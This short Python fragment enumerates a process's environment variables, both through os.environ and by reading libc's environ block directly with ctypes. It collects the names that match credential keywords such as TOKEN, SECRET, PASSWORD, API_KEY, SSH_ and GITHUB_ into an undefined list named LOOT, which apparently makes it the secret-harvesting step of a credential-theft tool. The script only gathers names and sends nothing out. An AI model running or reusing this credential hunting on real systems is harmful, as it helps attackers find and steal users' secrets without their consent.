"""Looks for tokens in the environment: in os.environ and in the block that libc keeps."""
import ctypes
import os

block = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
names = set(os.environ)
for i in range(1000):
    if not block or block[i] is None:
        break
    names.add(block[i].split(b"=")[0].decode(errors="replace"))
words = ("TOKEN", "SECRET", "PASSWORD", "API_KEY", "CREDENTIAL", "SSH_", "GITHUB_", "SUDO_")
LOOT += [name for name in names if any(word in name.upper() for word in words)]
